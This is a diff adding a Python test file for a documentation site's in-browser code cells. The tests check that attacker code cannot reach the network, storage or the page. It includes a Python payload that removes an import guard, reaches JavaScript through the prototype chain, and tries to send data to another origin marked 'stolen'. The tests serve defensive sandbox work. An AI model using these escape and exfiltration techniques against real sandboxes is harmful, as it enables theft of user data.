@@ -1,0 +1,67 @@
+"""Attacks: what runs in the place of Python reaches neither network nor storage nor page, in any engine."""
+
+import json
+from pathlib import Path
+
+from .host import Host
+from .reader import Reader
+
+URL = "with-block/"
+CELL = "with_block:does-not-commit"
+ATTACKS = Path(__file__).with_name("attacks.js").read_text("utf-8")
+
+
+def test_a_worker_in_the_place_of_pythons_reaches_nothing(reader: Reader, host: Host, other: Host) -> None:
+    """The attacker is JavaScript with a worker's full powers, in the frame that the site makes."""
+    script = next(host.root.glob("assets/livecells/bundle-*/frame.js")).relative_to(host.root).as_posix()
+    names = {"ORIGIN": host.origin, "OTHER": other.origin, "SCRIPT": host.origin + script}
+    written = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in names.items())
+    host.changed = {"/worker.js": lambda _: (written + ATTACKS).encode()}
+    for _ in range(2):  # the second finds what the first has left
+        reader.visit(host.origin + URL)
+        reader.run(CELL)
+        ended = reader.prints(CELL)
+        assert {name: how for name, how in ended.items() if not how.startswith("refused: ")} == {}
+        assert reader.script("return caches.keys()") == []
+    assert [path for path in host.requests if "stolen" in path] == []
+    assert other.requests == []
+    assert "stolen" not in reader.heard()
+
+
+BREAK_OUT = """\
+import json, sys
+told = {}
+try:
+    import js
+except ImportError as error:
+    told["polite"] = str(error)
+sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_Closed"]
+import js
+def attempt(name, work):
+    try:
+        work()
+        told[name] = "no error"
+    except BaseException as error:
+        told[name] = type(error).__name__
+worker = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))
+attempt("fetch", lambda: js.fetch(ADDRESS))
+attempt("the fetch below it", lambda: worker.fetch.call(js.self, ADDRESS))
+attempt("the page", lambda: js.document)
+attempt("the frame", lambda: js.parent)
+attempt("localStorage", lambda: js.localStorage)
+js.postMessage("stolen")
+print(json.dumps(told))
+"""
+
+
+def test_a_cell_that_gets_hold_of_javascript_reaches_nothing(reader: Reader, host: Host, other: Host) -> None:
+    reader.visit(host.origin + URL)
+    reader.leave_edited(CELL, f"ADDRESS = '{other.origin}?stolen'\n{BREAK_OUT}")
+    reader.run(CELL)
+    told = reader.prints(CELL)
+    assert told["polite"] == "The page is out of reach in these examples"
+    assert {told[name] for name in ("the page", "the frame", "localStorage")} == {"AttributeError"}
+    reader.leave_edited(CELL, "print('and after it')")  # time for what was sent to arrive
+    reader.run(CELL)
+    assert other.requests == []
+    assert "stolen" not in reader.heard()
